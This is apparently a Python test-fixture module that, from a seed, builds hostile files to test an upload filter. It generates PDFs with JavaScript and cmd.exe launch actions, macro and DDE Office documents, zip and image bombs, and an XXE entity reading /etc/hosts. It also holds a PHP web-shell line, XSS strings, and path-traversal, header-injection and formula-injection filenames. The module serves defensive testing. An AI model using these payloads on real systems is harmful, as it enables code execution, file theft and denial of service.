"""Files made to do harm, from a seed: the same seed makes the same file.

Nothing here runs anything: each file only has the outward signs by which programs are misled.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.progress.files import (
    DOCX,
    JPEG,
    PDF,
    PNG,
    PROGRAM,
    XLSX,
    office,
    ole,
    png,
    zipped,
    zipped_parts,
)

MEGABYTE = 1024 * 1024
WORD, SHEET = "word/document.xml", "xl/workbook.xml"
WORD_KIND, SHEET_KIND = "wordprocessingml.document", "spreadsheetml.sheet"
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
SCRIPT = b"<script>alert(1)</script>"
NAMES = (
    "bao-cao.pdf",
    "Báo cáo quý III.docx",
    "anh.jpg",
    "../../../etc/passwd",
    "..\\..\\Windows\\system32\\a.dll",
    "a\u202efdp.exe",
    "x" * 400 + ".pdf",
    "CON",
    "nul.pdf",
    "hinh.svg",
    "trang.html",
    'a"; filename="b.html',
    "a\r\nSet-Cookie: x=1.pdf",
    "<img src=x onerror=alert(1)>.png",
    ".htaccess",
    "ế" * 200,
    "=cmd|' /C calc'!A0.xlsx",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, and whether keeping it would be a failure whatever else happens."""

    kind: str
    name: str
    content: bytes
    must_be_refused: bool


def hostile(seed: int) -> Hostile:
    """The file of the seed; the kinds take turns."""
    chance = random.Random(seed)  # noqa: S311 - which harm to do
    kind = KINDS[seed % len(KINDS)]
    content, must_be_refused = _MAKERS[kind](chance)
    return Hostile(kind, chance.choice(NAMES), content, must_be_refused)


Made = tuple[bytes, bool]


def damaged(content: bytes, chance: random.Random) -> bytes:
    """The same with some bytes changed, cut out or doubled."""
    changed = bytearray(content)
    for _ in range(chance.randint(1, 12)):
        place = chance.randrange(len(changed))
        how = chance.randrange(3)
        if how == 0:
            changed[place] = chance.randrange(256)
        elif how == 1:
            del changed[place : place + chance.randint(1, 9)]
        else:
            changed[place:place] = changed[place : place + chance.randint(1, 40)]
        if not changed:
            return b"\0"
    return bytes(changed)


@cache
def whole_pdf() -> bytes:
    """A PDF as programs of today write them: its objects are packed into streams."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(90, 120))
    return _saved(document)


def _saved(document: pikepdf.Pdf) -> bytes:
    target = io.BytesIO()
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def _damaged_pdf(chance: random.Random) -> Made:
    return damaged(chance.choice((PDF, whole_pdf())), chance), False


def _active_pdf(chance: random.Random) -> Made:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(90, 120))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert({chance.random()})")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    how = chance.randrange(6)
    if how == 0:
        document.Root.OpenAction = script
    elif how == 1:
        document.Root.OpenAction = document.make_indirect(launch)
    elif how == 2:
        document.attachments["a.exe"] = PROGRAM + chance.randbytes(8)
    elif how == 3:
        page.obj.AA = pikepdf.Dictionary(O=script)
    elif how == 4:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=launch)
        link.Rect = pikepdf.Array([0, 0, 9, 9])
        page.obj.Annots = pikepdf.Array([document.make_indirect(link)])
    else:
        names = pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(script)]))
        document.Root.Names = pikepdf.Dictionary(JavaScript=names)
    return _saved(document), True


def _locked_pdf(chance: random.Random) -> Made:
    document = pikepdf.new()
    document.add_blank_page(page_size=(90, 120))
    target = io.BytesIO()
    lock = pikepdf.Encryption(user=f"pass{chance.random()}", owner="owner", R=4, aes=True)
    document.save(target, encryption=lock)
    return target.getvalue(), True


def _damaged_archive(chance: random.Random) -> Made:
    return damaged(chance.choice((DOCX, XLSX, zipped("a.pdf", "b.txt"))), chance), False


def _bomb(chance: random.Random) -> Made:
    how = chance.randrange(5)
    if how < 3:
        return _large_bomb(how), True
    if how == 3:
        inner = zipped("a.txt")
        for _ in range(chance.randint(3, 6)):
            inner = zipped_parts({"a.zip": inner})
        return inner, True
    return _overlapping(chance), True


@cache
def _large_bomb(how: int) -> bytes:
    """Too much in too little, in a document too; too many parts. Packed once: it takes long."""
    if how == 0:
        return zipped_parts({"a.bin": bytes(40 * MEGABYTE)})
    if how == 1:
        return office(WORD, WORD_KIND, **{"word/media/a.bmp": "0" * (40 * MEGABYTE)})
    return zipped(*(f"{number}.txt" for number in range(5_100)), content="")


def _overlapping(chance: random.Random) -> bytes:
    """Many names for one packed part, as in the bombs of one layer."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.bin", bytes(MEGABYTE))
        first = archive.infolist()[0]
        for number in range(chance.randint(2, 60)):
            again = zipfile.ZipInfo(f"{number}.bin")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(again, field, getattr(first, field))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True  # type: ignore[attr-defined]
    return target.getvalue()


def _macros(chance: random.Random) -> Made:
    rels = "word/_rels/settings.xml.rels"
    namespace = "http://schemas.openxmlformats.org"
    where = chance.choice(
        ("http://198.51.100.1/a.dotm", "\\\\198.51.100.1\\a.dotm", "file://198.51.100.1/a.dotm")
    )
    template = (
        f'<Relationships xmlns="{namespace}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{namespace}/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{where}" TargetMode="External"/></Relationships>'
    )
    macro_types = (
        f'<Types xmlns="{namespace}/package/2006/content-types"><Override PartName="/{WORD}" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    package = ole("\x01Ole10Native")
    call = f'<a><fldSimple instr="DDEAUTO cmd {chance.random()}"/></a>'
    return chance.choice(
        (
            office(WORD, WORD_KIND, **{"word/footer1.xml": call}),
            office(WORD, WORD_KIND, **{"word/vbaProject.bin": "x"}),
            office(WORD, WORD_KIND, **{"word/VBAPROJECT.BIN": "x"}),
            office(SHEET, SHEET_KIND, **{"xl/macrosheets/sheet1.xml": "<a/>"}),
            zipped_parts({"[Content_Types].xml": macro_types, WORD: "<a/>"}),
            office(WORD, WORD_KIND, **{rels: template}),
            zipped_parts({**_parts_of(DOCX), "word/embeddings/oleObject1.bin": package}),
            zipped_parts({"a.docx": office(WORD, WORD_KIND, **{"word/vbaProject.bin": "x"})}),
        )
    ), True


def _parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _old_office(chance: random.Random) -> Made:
    sheet = struct.pack("<HHIBB", 0x85, 12, 0, chance.randrange(3), 1) + b"\x05\0Macro"
    locked = struct.pack("<HH", 0x2F, 4) + bytes(4)
    secret = bytes(10) + b"\0\1" + bytes(20)
    return chance.choice(
        (
            ole("Workbook", "_VBA_PROJECT"),
            ole("WordDocument", "Macros"),
            ole("Workbook", content=sheet),
            ole("Workbook", content=locked),
            ole("WordDocument", content=secret),
            ole("WordDocument", "\x01Ole10Native"),
            ole("Property", "Binary.a"),
            ole("EncryptedPackage", "EncryptionInfo"),
        )
    ), True


def _damaged_old_office(chance: random.Random) -> Made:
    return damaged(ole(chance.choice(("WordDocument", "Workbook")), "1Table"), chance), False


def _two_in_one(chance: random.Random) -> Made:
    page = b"<!DOCTYPE html><html>" + SCRIPT + b"</html>"
    picture = chance.choice((PNG, JPEG, GIF))
    archive = zipped("a.txt", content=str(chance.random()))
    return chance.choice(
        (
            PDF + archive,
            whole_pdf() + archive,
            picture + archive,
            picture + page,
            b"GIF89a=1;/*" + SCRIPT + b"*/",
            b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
            page + PDF,
            archive + page,
            PROGRAM + archive,
            page + archive,
            DOCX + PDF,
            ole("WordDocument") + archive,
            b"\n" + PDF + page,
        )
    ), True


def _page_or_program(chance: random.Random) -> Made:
    mark = str(chance.random()).encode()
    return chance.choice(
        (
            b"<html>" + SCRIPT + mark,
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
            b"<svg onload=alert(1)>" + mark,
            PROGRAM + mark,
            b"\x7fELF" + mark,
            b"#!/bin/sh\n" + mark,
            b"alert(1)//" + mark,
            b"<?php system($_GET[0]); ?>" + mark,
            b"L\0\0\0\x01\x14\x02\0" + bytes(60) + mark,
            b"Rar!\x1a\x07\0" + mark,
            b"7z\xbc\xaf\x27\x1c" + mark,
            b"{\\rtf1\\object" + mark,
            b"\x1f\x8b\x08\0" + zlib.compress(mark),
            b"%PDX-1.4" + mark,
            b"\xff\xd8\xff" + mark,
            mark,
        )
    ), True


def _picture(chance: random.Random) -> Made:
    picture = chance.choice((PNG, JPEG, GIF, png(40, 30)))
    return damaged(picture, chance), False


def _picture_bomb(chance: random.Random) -> Made:
    side = chance.randint(20_000, 65_000)
    header = struct.pack(">2I5B", side, side, 8, 6, 0, 0, 0)
    huge = (
        PNG[:16]
        + header
        + struct.pack(">I", zlib.crc32(b"IHDR" + header))
        + PNG[16 + len(header) + 4 :]
    )
    wide = b"GIF89a" + struct.pack("<2H", side, side) + GIF[10:]
    jpeg = bytearray(JPEG)
    place = jpeg.find(b"\xff\xc0") + 5
    jpeg[place : place + 4] = struct.pack(">2H", side, side)
    return chance.choice((huge, wide, bytes(jpeg))), True


def _odd_archive(chance: random.Random) -> Made:
    mark = str(chance.random())
    locked = bytearray(zipped("a.txt", content=mark))
    locked[locked.find(b"PK\x01\x02") + 8] |= 1
    return chance.choice(
        (
            zipped("../../a.txt", content=mark),
            zipped("/etc/a.txt", content=mark),
            zipped("C:/a.txt", content=mark),
            zipped("a\u202efdp.txt", content=mark),
            zipped("a.exe", content=mark),
            zipped("thu-muc/a.JS", content=mark),
            zipped_parts({"a.txt": PROGRAM + mark.encode()}),
            zipped_parts({"a.txt": mark.encode(), "b.pdf": _active_pdf(chance)[0]}),
            zipped_parts({"a.rar": b"Rar!\x1a\x07\0" + mark.encode()}),
            zipped_parts({}),
            bytes(locked),
            zipped("[Content_Types].xml", WORD, content=f"<a>{mark}"),
            zipped_parts(
                {
                    "[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>'
                    f"<a>{mark}&b;</a>",
                    WORD: "<a/>",
                }
            ),
        )
    ), True


def _fine_with_a_name(chance: random.Random) -> Made:
    return chance.choice((PDF, PNG, JPEG, DOCX, XLSX, GIF, ole("WordDocument"))), False


_MAKERS: dict[str, Callable[[random.Random], Made]] = {
    "damaged PDF": _damaged_pdf,
    "active PDF": _active_pdf,
    "locked PDF": _locked_pdf,
    "damaged archive": _damaged_archive,
    "bomb": _bomb,
    "macros, templates": _macros,
    "old Office": _old_office,
    "damaged old Office": _damaged_old_office,
    "two in one": _two_in_one,
    "page or program": _page_or_program,
    "damaged picture": _picture,
    "picture bomb": _picture_bomb,
    "odd archive": _odd_archive,
    "fine, odd name": _fine_with_a_name,
}
KINDS = tuple(_MAKERS)
